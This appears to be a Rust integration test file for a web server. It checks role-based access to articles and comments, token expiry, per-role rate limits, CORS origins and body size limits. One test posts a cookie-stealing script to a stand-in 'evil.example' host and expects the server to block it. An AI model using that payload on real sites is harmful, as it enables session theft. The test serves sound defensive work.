//! A small publication on one server, with nothing around it: four kinds of people, tokens for half an hour,
//! a limit for each kind, bodies of ten megabytes at most, and three other origins whose pages may call.

use super::site_of;
use crate::support::{Actor, Answer, Site};
use reqwest::Method;
use serde_json::{Value, json};

const ORIGINS: [&str; 3] = ["https://www.example.org", "https://app.example.org", "http://localhost:5173"];

fn publication() -> Site {
    let origins = ORIGINS.join(",");
    let environment = [
        ("PORTCULLIS_CORS__ORIGINS", &*origins),
        ("PORTCULLIS_SERVER__BODY_LIMIT_MB", "10"),
        ("PORTCULLIS_AUTH__ACCESS_TOKEN_MINUTES", "30"),
        ("PORTCULLIS_LIMITS__PUBLIC_PER_MINUTE", "20"),
        ("PORTCULLIS_LIMITS__LOGIN_PER_MINUTE", "100"),
        ("PORTCULLIS_LIMITS__ROLES__ADMIN_PER_MINUTE", "100"),
    ];
    site_of("four_roles.toml", "make the entity type articles", &environment)
}

fn article(title: &str, published: bool) -> Value {
    json!({"name": title, "data": {"title": title, "text": "What there is to say.", "published": published}})
}

fn titles(actor: &Actor) -> Vec<String> {
    let page = actor.get("/articles?sort=name").expect(200).json();
    page["items"].as_array().unwrap().iter().map(|item| item["name"].as_str().unwrap().to_owned()).collect()
}

#[test]
fn four_kinds_of_people_share_a_publication() {
    let site = publication();
    site.nobody().send(site.nobody().at(Method::GET, "/health/ready")).expect(200);
    let admin = site.admin();
    let writer = site.user(&admin, "writer", &["member"]);
    let reader = site.user(&admin, "reader", &["member"]);
    let moderator = site.user(&admin, "moderator", &["moderator"]);

    writer.post("/articles", &article("A draft", false)).expect(201);
    let published = writer.post("/articles", &article("Published", true)).expect(201).id();
    let everybody = [(&site.nobody(), 1), (&reader, 1), (&writer, 2), (&moderator, 2), (&admin, 2)];
    for (actor, seen) in everybody {
        assert_eq!(titles(actor).len(), seen);
    }

    let path = format!("/articles/{published}");
    moderator.patch(&path, &json!({"data": {"moderation_note": "Keep an eye on it."}})).expect(200);
    for (actor, sees) in [(&site.nobody(), false), (&writer, false), (&moderator, true), (&admin, true)] {
        let answer = actor.get(&path).expect(200);
        assert_eq!(answer.text.contains("Keep an eye"), sees, "{}", answer.text);
    }
    reader.patch(&path, &json!({"data": {"title": "Mine now"}})).problem(403, "forbidden");
    site.nobody().post("/articles", &article("From nowhere", true)).problem(401, "unauthenticated");

    let comment = json!({"data": {"article_id": published, "text": "Well said."}});
    let said = reader.post("/comments", &comment).expect(201).id();
    let attack =
        json!({"data": {"article_id": published, "text": "<script>fetch('//evil.example/'+document.cookie)</script>"}});
    reader.post("/comments", &attack).problem(422, "inspection_blocked");
    writer.delete(&format!("/comments/{said}")).problem(403, "forbidden");
    moderator.delete(&format!("/comments/{said}")).expect(204);
}

#[test]
fn tokens_last_half_an_hour_and_refresh_for_longer() {
    let site = publication();
    let admin = site.admin();
    let writer = site.user(&admin, "writer", &["member"]);
    site.clock.advance(29 * 60_000);
    writer.get("/auth/me").expect(200);
    site.clock.advance(2 * 60_000);
    writer.get("/auth/me").problem(401, "token_expired");
    let body = json!({"refresh_token": writer.refresh_token});
    let renewed = site.bearer(&site.nobody().post("/auth/refresh", &body).expect(200).json());
    renewed.get("/auth/me").expect(200);
}

/// How many requests pass before the first 429.
fn allowance(ask: impl Fn() -> Answer) -> usize {
    (0..300).take_while(|_| ask().status != 429).count()
}

#[test]
fn each_kind_has_its_own_allowance() {
    let site = publication();
    let admin = site.admin();
    let reader = site.user(&admin, "reader", &["member"]);
    let moderator = site.user(&admin, "moderator", &["moderator"]);
    site.clock.advance(60_000);
    let kinds = [(site.nobody(), 20), (reader, 60), (moderator, 80), (admin, 100)];
    for (actor, limit) in &kinds {
        let used = allowance(|| actor.get("/articles?limit=1"));
        assert!((*limit..limit + limit / 4).contains(&used), "{used} of {limit}");
    }
    site.clock.advance(60_000);
    for (actor, _) in &kinds {
        actor.get("/articles?limit=1").expect(200);
    }
}

#[test]
fn pages_of_three_origins_may_call_and_bodies_end_at_ten_megabytes() {
    let site = publication();
    let nobody = site.nobody();
    let from = |origin: &str| nobody.send(nobody.at(Method::GET, "/health").header("origin", origin));
    for origin in ORIGINS {
        assert_eq!(from(origin).header("access-control-allow-origin"), origin);
    }
    for origin in ["https://www.example.org.evil", "https://wwwXexample.org", "http://www.example.org", "null"] {
        assert_eq!(from(origin).header("access-control-allow-origin"), "", "{origin}");
    }
    let admin = site.admin();
    let body = |megabytes: usize| {
        let text = " ".repeat(megabytes << 20);
        admin.send(admin.request(Method::POST, "/articles").header("content-type", "application/json").body(text))
    };
    body(9).problem(400, "malformed_json");
    body(11).problem(413, "payload_too_large");
}
